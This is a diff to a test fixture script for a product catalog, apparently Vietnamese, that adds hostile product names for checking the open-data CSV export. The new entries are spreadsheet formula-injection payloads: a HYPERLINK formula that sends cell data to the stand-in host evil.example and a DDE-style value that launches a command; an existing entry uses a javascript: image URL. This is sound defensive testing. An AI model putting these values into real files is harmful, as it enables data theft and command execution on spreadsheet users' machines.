@@ -96,6 +96,9 @@ const hostile = [
   base('anh-xau', { image: { src: 'javascript:alert(1)', alt: 'x' }, name: 'Ảnh là mã độc' }),
   base('han-sai', { expires_on: '2024-02-30', name: 'Hạn không phải ngày' }),
   base('khong-co-chi-tiet', { name: 'Không có trang chi tiết' }),
+  // Names a spreadsheet would run as formulas (the open-data CSV).
+  base('cong-thuc', { name: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")' }),
+  base('cong-thuc-2', { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', producer: { name: '+84 HTX "Mật, ong"', kind: 'htx' } }),
 ];
 write('products.json', { ...catalog, items: [...real, ...hostile] });
 for (const p of real) write(`products/${p.id}.json`, read(`products/${p.id}.json`));
